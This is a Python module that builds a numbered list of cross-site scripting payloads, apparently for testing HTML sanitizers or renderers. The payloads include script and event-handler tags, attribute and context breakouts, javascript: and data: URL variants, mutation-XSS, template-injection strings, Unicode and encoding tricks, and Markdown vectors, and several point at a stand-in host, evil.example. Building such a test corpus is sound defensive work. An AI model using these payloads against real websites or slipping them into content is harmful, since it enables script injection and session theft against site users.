"""Texts that would run a script, load something or lead somewhere if a page took them for markup.

Each that could run something calls ``xss`` with its number, which the browser of the attack has.
"""

import itertools

CALL = "xss({})"

TAGS = """
<script>{}</script>
<ScRiPt>{}</sCrIpT>
<script/x>{}</script>
<script
>{}</script
>
<<script>{}//<</script>
<scr<script>ipt>{}</scr</script>ipt>
<script src=data:,{}></script>
<script type=module>{}</script>
<script>/*<![CDATA[*/{}/*]]>*/</script>
<svg><script>{}</script></svg>
<svg><script href=data:,{} /></svg>
<math><script>{}</script></math>
<svg><foreignObject><script>{}</script></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x><script>{}</script></svg>#x"></svg>
<template><script>{}</script></template>
<noscript><script>{}</script></noscript>
<object data="data:text/html,<script>{}</script>"></object>
<embed src="data:text/html,<script>{}</script>">
<iframe src="javascript:parent.{}"></iframe>
<iframe srcdoc="<script>parent.{}</script>"></iframe>
<iframe srcdoc="&lt;script&gt;parent.{}&lt;/script&gt;"></iframe>
<frameset onload={}>
<portal src="javascript:{}"></portal>
<form action="javascript:{}"><button autofocus>a</button></form>
<form id=f></form><button form=f formaction="javascript:{}">a</button>
<input type=submit formaction="javascript:{}">
<isindex action="javascript:{}">
<meta http-equiv=refresh content="0;url=javascript:{}">
<meta http-equiv=refresh content="0;url=data:text/html,<script>{}</script>">
<meta http-equiv=refresh content="1;url=//evil.example/">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'"><script>{}</script>
<base href="//evil.example/">
<base href="javascript:{}//"><a href=x>a</a>
<link rel=stylesheet href=//evil.example/a.css onload={}>
<link rel=import href="data:text/html,<script>{}</script>">
<link rel=prefetch href=//evil.example/>
<link rel=manifest href=//evil.example/>
<style>@import'//evil.example/a.css';</style>
<style>*{{background:url(//evil.example/a)}}</style>
<style>@keyframes x{{}}</style><b style=animation-name:x onanimationstart={}>a</b>
<p style="background:url(javascript:{})">a</p>
<p style="width:expression({})">a</p>
<p style="position:fixed;inset:0;background:url('//evil.example/')">a</p>
<a href="//evil.example/" target=x ping=//evil.example/>a</a>
<img srcset="//evil.example/a 1x" src=//evil.example/b>
<picture><source srcset=//evil.example/a><img src=x onerror={}></picture>
<math href="javascript:{}">a</math>
<math><maction actiontype=statusline xlink:href="javascript:{}">a</maction></math>
<svg><a xlink:href="javascript:{}"><text x=9 y=9>a</text></a></svg>
<svg><animate onbegin={} attributeName=x dur=1s></svg>
<svg><set attributeName=onload to={} /></svg>
<svg><animate xlink:href=#a attributeName=href values=javascript:{} /><a id=a>a</a></svg>
<svg><handler type=text/javascript>{}</handler></svg>
<dialog open onclose={}><form method=dialog><button autofocus>a</button></form></dialog>
<custom-element onconnected={} tabindex=1 onfocus={} autofocus>a</custom-element>
"""

HANDLERS = """
<img src=x onerror={}>
<svg onload={}>
<svg/onload={}>
<video src=x onerror={}></video>
<audio><source onerror={}></audio>
<details open ontoggle={}>a</details>
<input autofocus onfocus={}>
<body onload={}>
<object data=x onerror={}></object>
<marquee onstart={}>a</marquee>
"""
# Where a text may stand: what would have to be left before a tag could begin.
WAYS_OUT = [
    '">', "'>", "`>", "-->", "]]>", "*/", "</title>", "</textarea>", "</style>", "</noscript>",
    "</option></select>", "</script>",
]  # fmt: skip

ATTRIBUTES = """
" onfocus="{}" autofocus x="
' onfocus='{}' autofocus x='
" autofocus onfocus={} x=
"onmouseover="{}
x onclick={} y
"style="animation-name:x"onanimationstart="{}
" srcdoc="<script>{}</script>
" formaction="javascript:{}
"/><svg/onload={}><x y="
`${{{}}}`
"""

# Addresses that a browser might take for a script's, or for a page of its own making.
ADDRESSES = [
    "javascript:{}", "JaVaScRiPt:{}", "java\tscript:{}", "java\nscript:{}", " javascript:{}",
    "\x01javascript:{}", "javascript\t:{}", "javascript&colon;{}", "&#106;avascript:{}",
    "&#x6A&#x61vascript:{}", "javascript&#0058;{}", "javascript:%78ss(1)//{}",
    "javascript://%0A{}", "javascript:void {}", "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoMSk8L3NjcmlwdD4=#{}",
    "DATA:image/svg+xml,<svg/onload={}>", "vbscript:{}", "feed:javascript:{}",
    "view-source:javascript:{}", "jar:javascript:{}!/",
    "filesystem:javascript:{}", "file:///etc/passwd?{}", "ftp://evil.example/{}",
]  # fmt: skip
LINKS = [
    "{}", "[a]({})", "[a](<{}>)", "<{}>", "![a]({})", "[a]: {}\n\n[a]", '<a href="{}">a</a>',
]  # fmt: skip

MUTATIONS = """
<svg></p><style><a id="</style><img src=1 onerror={}>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={}&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>
<noscript><p title="</noscript><img src=x onerror={}>">
<xmp><p title="</xmp><svg/onload={}>"></xmp>
<listing>&lt;img src=x onerror={}&gt;</listing>
<select><noembed></select><script>{}</script></noembed>
<table><td><a id="</table><img src=x onerror={}>">
<svg><title><![CDATA[</title><img src=x onerror={}>]]></title></svg>
<!--><img src=x onerror={}>-->
<!--!><svg/onload={}>
<![if true]><img src=x onerror={}><![endif]>
<?xml version="1.0"?><svg onload={}>
<!DOCTYPE html><body onload={}>
<a title="`><img src=x onerror={}>`">a</a>
&lt;img src=x onerror={}&gt;
&amp;lt;script&amp;gt;{}&amp;lt;/script&amp;gt;
"""

TEMPLATES = """
{{{{ 7|add:{} }}}}
{{% load static %}}{{% static 'x' %}}{{# {} #}}
{{% debug %}}{{% include "admin/base.html" %}}
{{{{ request.user.password }}}}
{{{{constructor.constructor('{}')()}}}}
#{{{}}}
<%= {} %>
[[${{{}}}]]
%(statement)s %s %d {}
{{0.__class__.__mro__}} {}
"""

BREAKOUTS = """
"}};{};//
"-{}-"
'-{}-'
\\"-{}//
\\';{};//
</script><script>{}</script>
</script ><svg onload={}>
<!--<script>{}
\\u003c/script\\u003e\\u003cscript\\u003e{}
","@type":"Evil","x":"{}
}}]}}<script>{}</script>
*/{}/*
"""

LETTERS = [
    "＜script＞{}＜/script＞", "\u2028{}//\u2029", "%3Cscript%3E{}%3C/script%3E",
    "+ADw-script+AD4-{}+ADw-/script+AD4-", "\ufeff<script>{}</script>",
    "<\u017fcript>{}</\u017fcript>",
    "<script\u00a0>{}</script>", "\u202e<script>{}</script>\u202c", "\u2067<svg onload={}>\u2069",
    "<img src=x\x0conerror={}>", "<img\x0bsrc=x onerror={}>", "\u00c0\u00bcscript\u00c0\u00be{}",
    "\u02ba onfocus={} autofocus \u02ba", "\ud7ff<svg/onload={}>\ue000",
    "<\u200bscript>{}</script>",
    "a\u0338<\u0338script>{}</script>", "\x1b]0;{}\x07", "\u3008script\u3009{}",
]  # fmt: skip

MARKDOWN = """
[a](x "onmouseover={}")
[a](x '"><img src=x onerror={}>')
![a"onerror={} x="](https://evil.example/a.png)
![a](https://evil.example/a.png "{}")
<https://evil.example/"onmouseover={}>
[<img src=x onerror={}>](https://evil.example/)
```<script>{}</script>
`<img src=x onerror={}>`
    <script>{}</script>
> <script>{}</script>
- <svg onload={}>
1. [a](\\javascript:{})
[a][b] {}

[b]: javascript:xss(1) "a"
<div>

*<script>{}</script>*
</div>
| <img src=x onerror={}> |
| --- |
~~~html
<script>{}</script>
~~~
<a@evil.example?{}>
[a](mailto:a@evil.example?body=<script>{}</script>)
""".strip("\n")


def payloads() -> list[str]:
    """All of them, each another one, each with its number in it."""
    found = [
        *TAGS.replace("\n>{}</script\n>", "\f>{}</script\f>").strip().split("\n"),
        *_lines(HANDLERS),
        *(
            way + tag
            for way, tag in zip(WAYS_OUT * 3, itertools.cycle(_lines(HANDLERS)), strict=False)
        ),
        *_lines(ATTRIBUTES),
        *(link.format(address) for address, link in itertools.product(ADDRESSES, LINKS)),
        *_lines(MUTATIONS),
        *_lines(TEMPLATES),
        *_lines(BREAKOUTS),
        *LETTERS,
        *_lines(MARKDOWN),
    ]
    unique = dict.fromkeys(text.replace("\f>", "\n>") for text in found)
    return [numbered(text, number) for number, text in enumerate(unique)]


def _lines(text: str) -> list[str]:
    return [line for line in text.split("\n") if line]


def numbered(text: str, number: int) -> str:
    """The text with its call; doubled braces stand for single ones, as in a format."""
    return text.replace("{}", CALL.format(number)).replace("{{", "{").replace("}}", "}")
